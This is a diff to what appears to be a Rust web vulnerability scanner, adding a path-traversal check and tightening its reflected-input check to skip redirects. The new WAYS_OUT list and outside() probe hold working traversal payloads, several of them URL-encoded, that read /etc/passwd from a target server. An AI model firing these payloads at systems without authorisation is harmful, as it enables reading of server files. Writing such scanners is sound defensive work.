@@ -19,6 +19,18 @@ const SHOWN_PARAMETERS: &[&str] = &["q", "s", "search", "query", "name", "id", "
 const SHOWN_PATHS: &[&str] = &["/search", "/find"];
 /// Pages that developers leave behind.
 const ERROR_PATHS: &[&str] = &["/debug", "/error", "/trace", "/test"];
+/// Parameters that name files, and pages that take them.
+const FILE_PARAMETERS: &[&str] = &["file", "filename", "path", "page", "name", "template", "doc", "include", "download", "f"];
+const FILE_PATHS: &[&str] = &["/", "/file", "/download", "/view", "/read", "/page", "/include", "/index.php", "/static", "/api/file"];
+/// Paths that leave the site unless they are resolved before they are judged; sent as they stand.
+const WAYS_OUT: &[&str] = &[
+    "/../../../../../../../../etc/passwd",
+    "/..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc/passwd",
+    "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/etc/passwd",
+    "/icons/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/etc/passwd",
+    "/static/../../../../../../../../etc/passwd",
+];
 /// Files above a directory, and what proves them.
 const ABOVE: &[(&str, Proof)] =
     &[(".git/HEAD", Proof::GitHead), (".env", Proof::Assignments), ("etc/passwd", Proof::Text(&["root:", ":0:0:"]))];
@@ -33,6 +45,7 @@ pub(super) async fn probe(
     redirects(client, found).await?;
     echoes(session, client, landing, found).await?;
     errors(client, found).await?;
+    outside(client, found).await?;
     traversals(client, directories, found).await
 }
 
@@ -76,7 +89,8 @@ async fn echoes(session: &Session, client: &Client<'_>, landing: &Landing, found
         url.query_pairs_mut().extend_pairs(&marks);
         let page = client.fetch(Fetch::get(&url)).await?;
         let text = page.text();
-        if !page.is_html() || !text.contains(&word) {
+        // Nobody is shown the page of a redirect.
+        if page.is_redirect() || !page.is_html() || !text.contains(&word) {
             continue;
         }
         if let Some((name, mark)) = first_shown(&text, &marks) {
@@ -86,7 +100,9 @@ async fn echoes(session: &Session, client: &Client<'_>, landing: &Landing, found
         // Some servers show the query as it came; browsers escape it, other clients need not.
         let query = marks.iter().map(|(name, mark)| format!("{name}={mark}")).collect::<Vec<_>>().join("&");
         let raw = client.fetch_unescaped(path, &query).await?;
-        if let Some((name, mark)) = first_shown(&raw, &marks) {
+        // The head repeats the query too, as the address of a redirect, and no browser runs that.
+        let Some((_, body)) = raw.split_once("\r\n\r\n").filter(|(head, _)| head.get(9..10) != Some("3")) else { continue };
+        if let Some((name, mark)) = first_shown(body, &marks) {
             found.push(issue(client, &page, &http::REFLECTED_INPUT).about(name).evidence("shown", mark).sure(60));
         }
     }
@@ -103,6 +119,32 @@ async fn errors(client: &Client<'_>, found: &mut Vec<Issue>) -> Result<(), Strin
         let mut given_away = Vec::new();
         leaks(client, &page?, &mut given_away);
         found.extend(given_away.into_iter().filter(|issue| issue.check == http::STACK_TRACE.id));
+    }
+    Ok(())
+}
+
+/// Asks for a file that every Unix has, by ways out of the site that careless servers leave open.
+async fn outside(client: &Client<'_>, found: &mut Vec<Issue>) -> Result<(), String> {
+    let way = "../".repeat(8);
+    let query: String = FILE_PARAMETERS.iter().map(|name| format!("{name}={way}etc/passwd")).collect::<Vec<_>>().join("&");
+    let asked = FILE_PATHS.iter().map(|path| (*path, query.as_str())).chain(WAYS_OUT.iter().map(|path| (*path, "")));
+    for (path, query) in asked {
+        let reply = client.fetch_unescaped(path, query).await?;
+        let Some((head, body)) = reply.split_once("\r\n\r\n") else { continue };
+        if head.get(9..12) == Some("200") && body.contains("root:") && body.contains(":0:0:") {
+            let way = match query {
+                "" => path,
+                _ => "parameter",
+            };
+            found.push(
+                Issue::new(&http::PATH_TRAVERSAL, client.endpoint.address, &client.endpoint.host)
+                    .at(&client.url(path)?)
+                    .about(way)
+                    .evidence("file", "/etc/passwd")
+                    .sure(99),
+            );
+            break;
+        }
     }
     Ok(())
 }
